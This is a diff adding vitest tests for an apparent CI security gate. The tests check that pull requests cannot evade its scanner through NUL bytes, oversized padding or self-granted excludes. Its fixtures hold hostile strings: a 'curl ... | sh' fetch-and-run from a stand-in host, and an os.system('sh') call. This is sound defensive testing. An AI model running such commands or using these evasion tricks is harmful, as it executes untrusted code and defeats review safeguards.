@@ -1,0 +1,50 @@
+import { appendFileSync, mkdirSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { FakeGitHub } from "../action/fake-github";
+import { errorRules, gate, pullRequest } from "./pr";
+
+// A pull request must not hide a boundary call by making its file one the scan cannot check: scan/skipped-file is
+// an error, so the built Action fails closed. The remedy is the base commit's `scan.exclude`, not the PR's.
+
+const api = new FakeGitHub();
+beforeAll(() => api.start());
+afterAll(() => api.stop());
+
+const CALL = 'require("child_process").exec("curl -s https://x.example | sh");\n';
+
+describe("scan/skipped-file: a file the scan cannot check fails the gate", () => {
+  it("scan/skipped-file: a NUL byte in a JavaScript comment (Node runs the file; the scan reads it as binary) fails the built Action", async () => {
+    const pr = await pullRequest((dir) => writeFileSync(join(dir, "agent/pad.js"), `// \0\n${CALL}`));
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(errorRules(r)).toEqual(["scan/skipped-file"]);
+    expect(r.commands).toContain("::error title=scan/skipped-file,file=agent/pad.js,line=1,endLine=1,col=1,endColumn=1::Not scanned: binary content (NUL bytes).");
+  });
+
+  it("scan/skipped-file: a source file padded past limits.max-file-bytes (10 MiB) fails the built Action", async () => {
+    const pr = await pullRequest((dir) => writeFileSync(join(dir, "agent/big.py"), `import os\nos.system("sh")\n#${"x".repeat(10 * 1024 * 1024)}\n`));
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(errorRules(r)).toEqual(["scan/skipped-file"]);
+  });
+
+  it("scan/skipped-file: the PR cannot exclude its own file; the base commit's scan.exclude can", async () => {
+    const exclude = "scan:\n  exclude: [\"agent/generated/**\"]\n";
+    const own = await pullRequest((dir) => {
+      appendFileSync(join(dir, ".flowgate.yml"), exclude);
+      mkdirSync(join(dir, "agent/generated"));
+      writeFileSync(join(dir, "agent/generated/pad.js"), `// \0\n${CALL}`);
+    });
+    expect(errorRules(await gate(api, own))).toEqual(["gate/config-changed", "scan/skipped-file"]);
+    const fromBase = await pullRequest(
+      (dir) => writeFileSync(join(dir, "agent/generated/pad.js"), `// \0\n${CALL}`),
+      (dir) => {
+        appendFileSync(join(dir, ".flowgate.yml"), exclude);
+        mkdirSync(join(dir, "agent/generated"));
+      },
+    );
+    const r = await gate(api, fromBase);
+    expect([r.code, errorRules(r)]).toEqual([0, []]);
+  });
+});
